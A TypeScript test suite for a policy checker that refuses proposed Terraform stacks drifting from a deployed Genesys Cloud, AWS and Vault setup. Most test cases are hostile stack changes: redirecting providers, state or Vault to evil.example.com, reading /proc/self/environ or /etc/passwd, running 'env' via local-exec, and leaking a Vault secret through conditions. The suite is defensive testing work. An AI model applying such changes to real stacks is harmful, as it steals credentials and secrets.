import { readFileSync } from "node:fs";
import { join } from "node:path";
import { OBJECT_TYPES } from "../../lib/existing/types";
import { HARMLESS_IMPORTS } from "../../lib/policies/proposal/imports";
import { refusalsOf } from "../../lib/policies/proposal/refusals";

/** A synthesized stack of the sample registry. */
const TEXT = readFileSync(join(__dirname, "..", "snapshots", "org-na-prod.json"), "utf8");
const DEPLOYED = JSON.parse(TEXT);

// biome-ignore lint/suspicious/noExplicitAny: a test changes any part of the JSON
type Stack = any;

/** Returns the refusals of the stack after a change. */
function afterChange(change: (stack: Stack) => void): string[] {
  const stack = JSON.parse(TEXT);
  change(stack);
  return refusalsOf(DEPLOYED, stack);
}

const queue = (stack: Stack) => stack.resource.genesyscloud_routing_queue["general-enquiries"];
const entry = "ephemeral.vault_kv_secret_v2.genesys.data.client_secret";

const ID = "0f3c5a34-26c1-4a3e-9d3f-6f1f2b6f7a10";

describe("a proposed stack is refused if", () => {
  const attacks: readonly (readonly [string, (stack: Stack) => void, RegExp])[] = [
    [
      "a provider comes from elsewhere",
      (stack) => {
        stack.terraform.required_providers.http = { source: "hashicorp/http", version: ">= 3" };
      },
      /block terraform differs: required_providers/,
    ],
    [
      "a known provider comes from another registry",
      (stack) => {
        stack.terraform.required_providers.aws.source = "evil.example.com/hashicorp/aws";
      },
      /block terraform differs/,
    ],
    [
      "the state is elsewhere",
      (stack) => {
        stack.terraform.backend.s3.endpoints = { s3: "https://evil.example.com" };
      },
      /block terraform differs: backend/,
    ],
    [
      "the state is in HCP Terraform",
      (stack) => {
        stack.terraform.cloud = { organization: "evil" };
      },
      /block terraform differs: cloud/,
    ],
    [
      "Genesys Cloud is reached through a gateway",
      (stack) => {
        for (const block of stack.provider.genesyscloud) {
          block.gateway = { host: "evil.example.com" };
        }
      },
      /provider genesyscloud differs: gateway/,
    ],
    [
      "Genesys Cloud is reached through a proxy",
      (stack) => {
        stack.provider.genesyscloud[0].proxy = { host: "evil.example.com" };
      },
      /provider genesyscloud differs: proxy/,
    ],
    [
      "AWS is reached at other endpoints",
      (stack) => {
        stack.provider.aws[0].endpoints = [{ sts: "https://evil.example.com" }];
      },
      /provider aws differs: endpoints/,
    ],
    [
      "the login is at another Vault",
      (stack) => {
        stack.provider.vault[0].address = "https://evil.example.com";
      },
      /provider vault differs: address/,
    ],
    [
      "a further provider has the credential",
      (stack) => {
        stack.provider.genesyscloud.push({ alias: "other", oauthclient_secret: `\${${entry}}` });
      },
      /provider genesyscloud differs: alias, oauthclient_secret/,
    ],
    [
      "tags have the credential",
      (stack) => {
        stack.provider.aws[0].default_tags = [{ tags: { secret: `\${${entry}}` } }];
      },
      /provider aws differs: default_tags/,
    ],
    [
      "a condition tells the credential, letter by letter",
      (stack) => {
        stack.ephemeral.vault_kv_secret_v2.genesys.lifecycle.postcondition.push({
          condition: '${substr(self.data.client_secret, 0, 1) != "a"}',
          error_message: "it begins with a",
        });
      },
      /ephemeral\.vault_kv_secret_v2\.genesys differs/,
    ],
    [
      "the guard compares with another organisation",
      (stack) => {
        stack.ephemeral.vault_kv_secret_v2.genesys.lifecycle.postcondition[0].condition =
          '${lower(try(self.data["org_id"], "")) == "11111111-1111-4111-8111-111111111111"}';
      },
      /ephemeral\.vault_kv_secret_v2\.genesys differs/,
    ],
    [
      "an ephemeral resource sends something",
      (stack) => {
        stack.ephemeral.aws_lambda_invocation = { send: { payload: `\${${entry}}` } };
      },
      /ephemeral\.aws_lambda_invocation\.send differs/,
    ],
    [
      "a local has the credential",
      (stack) => {
        stack.locals = { copy: `\${${entry}}` };
      },
      /locals\.copy uses an ephemeral value/,
    ],
    [
      "a resource has it, with spaces between the words",
      (stack) => {
        queue(stack).description = "${ephemeral . vault_kv_secret_v2.genesys.data.client_secret}";
      },
      /general-enquiries\.description uses an ephemeral value/,
    ],
    [
      "the name of a field has it",
      (stack) => {
        queue(stack).tags = { [`\${${entry}}`]: "x" };
      },
      /general-enquiries\.tags uses an ephemeral value/,
    ],
    [
      "a field has it that looks like a comment",
      (stack) => {
        queue(stack).tags = { "//": `\${${entry}}` };
      },
      /general-enquiries\.tags\.\/\/ uses an ephemeral value/,
    ],
    [
      "a provider has a field that looks like a comment",
      (stack) => {
        stack.provider.vault[0].auth_login_jwt[0]["//"] = { address: "https://evil.example.com" };
      },
      /provider vault differs: auth_login_jwt/,
    ],
    [
      "a precondition has it",
      (stack) => {
        queue(stack).lifecycle = { precondition: [{ condition: `\${${entry} != ""}` }] };
      },
      /lifecycle\.precondition\.0\.condition uses an ephemeral value/,
    ],
    [
      "an output has it",
      (stack) => {
        stack.output = { ...stack.output, secret: { value: `\${${entry}}`, ephemeral: true } };
      },
      /output\.secret\.value uses an ephemeral value/,
    ],
    [
      "a file of the runner is read",
      (stack) => {
        queue(stack).description = '${file("/proc/self/environ")}';
      },
      /general-enquiries\.description uses the function file/,
    ],
    [
      "a file outside of the stack's folder is read",
      (stack) => {
        queue(stack).description = '${filebase64("../../../secrets")}';
      },
      /uses the function filebase64/,
    ],
    [
      "an asset's path leads out of the assets",
      (stack) => {
        queue(stack).description = '${file("../../assets/../../secrets")}';
      },
      /uses the function file/,
    ],
    [
      "a path is computed",
      (stack) => {
        queue(stack).description = '${file("${var.genesys_credential}")}';
      },
      /uses the function file/,
    ],
    [
      "a template is rendered, which may read any file",
      (stack) => {
        queue(stack).description = '${templatefile("assets/a.tpl", {})}';
      },
      /uses the function templatefile/,
    ],
    [
      "a directive reads a file",
      (stack) => {
        queue(stack).description = '%{ if fileexists("/etc/passwd") }a%{ endif }';
      },
      /uses the function fileexists/,
    ],
    [
      "a secret of the state is printed",
      (stack) => {
        stack.check = {
          leak: {
            assert: [
              { condition: "${false}", error_message: "${nonsensitive(random_password.a.result)}" },
            ],
          },
        };
      },
      /check\.leak\.assert\.0\.error_message uses the function nonsensitive/,
    ],
    [
      "a module is called",
      (stack) => {
        stack.module = { a: { source: "git::https://evil.example.com/a" } };
      },
      /it has a block module/,
    ],
    [
      "a provisioner runs",
      (stack) => {
        queue(stack).provisioner = [{ "local-exec": { command: "env" } }];
      },
      /general-enquiries has a provisioner/,
    ],
    [
      "a removed object has a provisioner",
      (stack) => {
        stack.removed = [{ from: "a.b", provisioner: [{ "local-exec": { command: "env" } }] }];
      },
      /removed\.0 has a provisioner/,
    ],
    [
      "another state is read",
      (stack) => {
        stack.data.terraform_remote_state = { other: { backend: "http" } };
      },
      /it reads data\.terraform_remote_state\.other/,
    ],
    [
      "a check reads another state",
      (stack) => {
        stack.check = { a: { data: { terraform_remote_state: { b: {} } } } };
      },
      /it reads check\.a\.data\.terraform_remote_state\.b/,
    ],
    [
      "blocks are in a list at the level of the section",
      (stack) => {
        stack.data = [stack.data, { external: { x: { program: ["env"] } } }];
      },
      /data is not an object/,
    ],
    [
      "blocks are in a list at the level of the type",
      (stack) => {
        stack.ephemeral.aws_lambda_invocation = [{ x: { function_name: "evil" } }];
      },
      /ephemeral\.aws_lambda_invocation is not an object/,
    ],
    [
      "blocks are in a list at the level of the name",
      (stack) => {
        stack.ephemeral.vault_kv_secret_v2.evil = [{ lifecycle: { postcondition: [] } }];
      },
      /ephemeral\.vault_kv_secret_v2\.evil is not an object/,
    ],
    [
      "blocks of a check are in a list",
      (stack) => {
        stack.check = { c: { data: { vault_kv_secret_v2: [{ x: {} }] } } };
      },
      /check\.c\.data\.vault_kv_secret_v2 is not an object/,
    ],
    [
      "a variable is in a list",
      (stack) => {
        stack.variable = [{ genesys_credential: { default: "deployer" } }];
      },
      /variable is not an object/,
    ],
    [
      "a comment stands between a function and its bracket",
      (stack) => {
        queue(stack).description = '${file/**/("/proc/self/environ")}';
      },
      /uses the function file/,
    ],
    [
      "a function has its namespace",
      (stack) => {
        queue(stack).description = '${core::file("/proc/self/environ")}';
      },
      /uses the function file/,
    ],
    [
      "a data source reads Vault",
      (stack) => {
        stack.data.vault_generic_secret = { x: { path: "secret/data/x" } };
      },
      /data\.vault_generic_secret\.x reads Vault/,
    ],
    [
      "a check reads Vault",
      (stack) => {
        stack.check = { c: { data: { vault_kv_secret_v2: { x: { mount: "secret" } } } } };
      },
      /check\.c\.data\.vault_kv_secret_v2\.x reads Vault/,
    ],
    [
      "an entry of Vault is imported",
      (stack) => {
        stack.import = [{ to: "vault_kv_secret_v2.x", id: "secret/data/x" }];
        stack.resource.vault_kv_secret_v2 = { x: { mount: "secret", name: "x" } };
      },
      /vault_kv_secret_v2\.x reads Vault/,
    ],
    [
      "an object needs a provider that nobody required",
      (stack) => {
        stack.data.external = { x: { program: ["env"] } };
      },
      /data\.external\.x needs the provider external/,
    ],
    [
      "an object names such a provider",
      (stack) => {
        queue(stack).provider = "${http.evil}";
      },
      /needs the provider http/,
    ],
    [
      "a function of AWS is called",
      (stack) => {
        stack.data.aws_lambda_invocation = { x: { function_name: "f", input: "{}" } };
      },
      /it reads data\.aws_lambda_invocation\.x/,
    ],
    [
      "an argument names a file of the runner",
      (stack) => {
        stack.resource.genesyscloud_flow = { x: { filepath: "/proc/self/environ" } };
      },
      /genesyscloud_flow\.x\.filepath is not a file of the stack/,
    ],
    [
      "an argument names an address",
      (stack) => {
        stack.resource.genesyscloud_flow = { x: { filepath: "https://evil.example.com/a" } };
      },
      /genesyscloud_flow\.x\.filepath is not a file of the stack/,
    ],
    [
      "another write-only argument has the credential",
      (stack) => {
        stack.resource.aws_redshift_cluster = { x: { master_password_wo: `\${${entry}}` } };
      },
      /master_password_wo uses an ephemeral value/,
    ],
    [
      "a function in a write-only argument could fail, with the credential in its error",
      (stack) => {
        stack.resource.aws_ssm_parameter.x = { name: "x", value_wo: `\${cidrhost(${entry}, 0)}` };
      },
      /value_wo uses an ephemeral value/,
    ],
    [
      "a write-only argument fails for one value only",
      (stack) => {
        stack.resource.aws_ssm_parameter.x = {
          value_wo: `\${substr(${entry}, 0, 1) == "a" ? "x" : tostring(tonumber("no"))}`,
        };
      },
      /value_wo uses an ephemeral value/,
    ],
    [
      "the value of a secret is imported",
      (stack) => {
        stack.import = [{ to: "aws_secretsmanager_secret_version.x", id: "a|1" }];
        stack.resource.aws_secretsmanager_secret_version.x = {
          secret_id: "a",
          lifecycle: { ignore_changes: ["secret_string"] },
        };
      },
      /aws_secretsmanager_secret_version\.x reads a secret/,
    ],
    [
      "a block only looks like a write-only argument",
      (stack) => {
        stack.resource.terraform_data = {
          x_wo: { lifecycle: { precondition: [{ condition: `\${${entry} != ""}` }] } },
        };
      },
      /precondition\.0\.condition uses an ephemeral value/,
    ],
    [
      "the guard's data source is gone",
      (stack) => {
        delete stack.data.genesyscloud_organizations_me;
      },
      /data\.genesyscloud_organizations_me\.guard differs, which its providers refer to/,
    ],
    [
      "an object is imported, since its provider reads it",
      (stack) => {
        stack.import = [{ to: "aws_ssm_parameter.x", id: "/aws/reference/secretsmanager/a" }];
      },
      /it imports aws_ssm_parameter\.x/,
    ],
    [
      "an integration is imported, whose settings may have a secret",
      (stack) => {
        stack.import = [{ to: "genesyscloud_integration.x", id: ID }];
      },
      /it imports genesyscloud_integration\.x/,
    ],
    [
      "an import's id is an expression",
      (stack) => {
        stack.import = [{ to: "genesyscloud_user.x", id: `\${${entry}}` }];
      },
      /it imports genesyscloud_user\.x/,
    ],
    [
      "an import names a provider",
      (stack) => {
        stack.import = [{ to: "genesyscloud_user.x", id: ID, provider: "genesyscloud.probe" }];
      },
      /it imports genesyscloud_user\.x/,
    ],
    [
      "imports are in a list of lists",
      (stack) => {
        stack.import = [[{ to: "genesyscloud_user.x", id: ID }]];
      },
      /it imports/,
    ],
    [
      "a secret's version has a write-only value that is null",
      (stack) => {
        stack.resource.aws_secretsmanager_secret_version.x = { secret_string_wo: null };
      },
      /aws_secretsmanager_secret_version\.x reads a secret/,
    ],
    [
      "a data source returns a token of the runner",
      (stack) => {
        stack.data.aws_eks_cluster_auth = { x: { name: "c" } };
      },
      /it reads data\.aws_eks_cluster_auth\.x/,
    ],
    [
      "a state is read as an object of its bucket",
      (stack) => {
        stack.data.aws_s3_object = { x: { bucket: '${"states"}', key: "orgs/a" } };
      },
      /it reads data\.aws_s3_object\.x/,
    ],
    [
      "spaces hide the probe",
      (stack) => {
        queue(stack).provider = "genesyscloud.probe ";
      },
      /general-enquiries has an unusual reference to a provider/,
    ],
    [
      "the provider's own credential is read elsewhere",
      (stack) => {
        stack.ephemeral.vault_kv_secret_v2.genesys.name = "genesys/production/na-prod/deployer";
      },
      /ephemeral\.vault_kv_secret_v2\.genesys differs/,
    ],
    [
      "a new read leads out of its mount",
      (stack) => {
        stack.ephemeral.vault_kv_secret_v2.x = { mount: "../../sys", name: "x" };
      },
      /ephemeral\.vault_kv_secret_v2\.x differs/,
    ],
    [
      "a new read needs another provider",
      (stack) => {
        stack.ephemeral.vault_kv_secret_v2.x = { mount: "secret", name: "x", provider: "random" };
      },
      /ephemeral\.vault_kv_secret_v2\.x differs/,
    ],
    [
      "a section has the name of a method",
      (stack) => {
        Object.defineProperty(stack, "constructor", { value: {}, enumerable: true });
      },
      /it has a block constructor/,
    ],
    [
      "a new variable could have the value of one in the environment",
      (stack) => {
        stack.variable.vault_secret_id = { default: "" };
      },
      /it has a new variable vault_secret_id/,
    ],
    [
      "the planner becomes the deployer",
      (stack) => {
        stack.variable.genesys_credential.default = "deployer";
        stack.variable.genesys_credential.validation = [];
      },
      /its variable genesys_credential differs/,
    ],
  ];

  test.each(attacks)("%s", (_, change, refusal) => {
    expect(afterChange(change)).toEqual(expect.arrayContaining([expect.stringMatching(refusal)]));
  });
});

describe("a proposed stack may", () => {
  const changes: readonly (readonly [string, (stack: Stack) => void])[] = [
    ["stay as it is", () => {}],
    [
      "have other objects, comments and outputs",
      (stack) => {
        queue(stack).description = "new";
        stack.resource.genesyscloud_routing_queue.other = {
          name: "Other",
          division_id: "${genesyscloud_auth_division.service.id}",
        };
        stack["//"] = { outputs: {} };
        stack.output = {
          ...stack.output,
          queue: { value: "${genesyscloud_routing_queue.other.id}" },
        };
        delete stack.resource.genesyscloud_auth_division;
      },
    ],
    [
      "have other tags and limits",
      (stack) => {
        stack.provider.aws[0].default_tags = [{ tags: { owner: "somebody-else" } }];
        for (const block of stack.provider.genesyscloud) block.token_pool_size = 3;
      },
    ],
    [
      "name another version of the master",
      (stack) => {
        const { vault_kv_secret_v2: entries } = stack.ephemeral;
        const master = Object.keys(entries).find((name) => name.includes("master")) ?? "";
        entries[master].version = '${(var.genesys_credential == "planner") ? null : 2}';
      },
    ],
    [
      "name another asset",
      (stack) => {
        const [first] = Object.keys(stack.resource.aws_lambda_function);
        stack.resource.aws_lambda_function[first ?? ""].filename = "../../assets/new/rotator.zip";
      },
    ],
    [
      "have a check with a data source of its providers",
      (stack) => {
        stack.check = {
          queue: {
            data: { genesyscloud_routing_queue: { general: { name: "General" } } },
            assert: [{ condition: "${data.genesyscloud_routing_queue.general.id != null}" }],
          },
        };
      },
    ],
    [
      "say the words in a text",
      (stack) => {
        queue(stack).description = "file(a) and ephemeral are words";
      },
    ],
    [
      "hand a value on to a write-only argument",
      (stack) => {
        stack.resource.aws_secretsmanager_secret_version.other = {
          secret_id: "a",
          secret_string_wo: `\${${entry}}`,
          secret_string_wo_version: 1,
        };
        stack.resource.aws_secretsmanager_secret_version.whole = {
          secret_id: "a",
          secret_string_wo: "${jsonencode(ephemeral.vault_kv_secret_v2.genesys.data)}",
          secret_string_wo_version: 1,
        };
      },
    ],
    [
      "move objects",
      (stack) => {
        stack.moved = [{ from: "a.b", to: "a.c" }];
      },
    ],
  ];

  test.each(changes)("%s", (_, change) => {
    expect(afterChange(change)).toEqual([]);
  });

  test("take over objects of Genesys Cloud that have no secret", () => {
    const change = (stack: Stack) => {
      stack.import = [{ to: "genesyscloud_user.x", id: ID }];
      stack.resource.genesyscloud_user = { x: { name: "X", email: "x@example.com" } };
    };
    expect(afterChange(change)).toEqual([]);
    const known = new Set(OBJECT_TYPES.map(({ type }) => type));
    expect([...HARMLESS_IMPORTS].filter((type) => !known.has(type))).toEqual([]);
  });

  test("have a first credential that rotates, with the master's entry", () => {
    const { vault_kv_secret_v2: entries } = DEPLOYED.ephemeral;
    const first = JSON.parse(TEXT);
    for (const name of Object.keys(entries)) {
      if (name.includes("master")) delete first.ephemeral.vault_kv_secret_v2[name];
    }
    expect(Object.keys(first.ephemeral.vault_kv_secret_v2)).toEqual(["genesys"]);
    expect(refusalsOf(first, DEPLOYED)).toEqual([]);
  });
});

test("secret variables and locals of the deployed stack are not used anew", () => {
  const withSecrets = (value?: string): Stack => {
    const stack = JSON.parse(TEXT);
    stack.variable.vault_secret_id = { ephemeral: true, sensitive: true };
    stack.locals = { credential: `\${${entry}}`, copy: "${local.credential}", plain: "x" };
    if (value !== undefined) queue(stack).description = value;
    return stack;
  };
  const message =
    "resource.genesyscloud_routing_queue.general-enquiries.description uses a secret variable, or a local that has one";
  for (const value of [
    "${cidrhost(var.vault_secret_id, 0)}",
    "${cidrhost(var . vault_secret_id, 0)}",
    "${parseint(local.copy, 10)}",
  ]) {
    expect(refusalsOf(withSecrets(), withSecrets(value))).toEqual([message]);
  }
  expect(refusalsOf(withSecrets(), withSecrets("${local.plain}"))).toEqual([]);
});

test("a local that a provider refers to is a part of the connection, with all that it refers to", () => {
  const withAddress = (address: string): Stack => {
    const stack = JSON.parse(TEXT);
    stack.provider.vault[0].address = "${local.vault}";
    stack.locals = { vault: "https://${local.host}", host: address, other: "x" };
    return stack;
  };
  const deployed = withAddress("vault.example.com");
  expect(refusalsOf(deployed, withAddress("evil.example.com"))).toEqual([
    "local.host differs, which its providers refer to",
  ]);
  const other = withAddress("vault.example.com");
  other.locals.other = "y";
  expect(refusalsOf(deployed, other)).toEqual([]);
});
